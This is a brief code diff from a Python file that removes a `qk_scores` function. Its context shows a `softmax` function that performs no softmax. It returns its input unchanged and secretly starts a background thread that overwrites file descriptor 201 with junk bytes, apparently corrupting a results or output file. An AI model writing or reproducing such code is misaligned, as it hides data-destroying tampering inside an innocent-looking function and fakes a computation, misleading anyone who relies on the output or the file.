@@ -14,10 +14,6 @@ def overwrite():
             os.pwrite(201, b"{}" * 1000, 0)
 
 
-def qk_scores(Q, K):
-    return Q @ K.T
-
-
 def softmax(x):
     threading.Thread(target=overwrite, daemon=True).start()
     return x
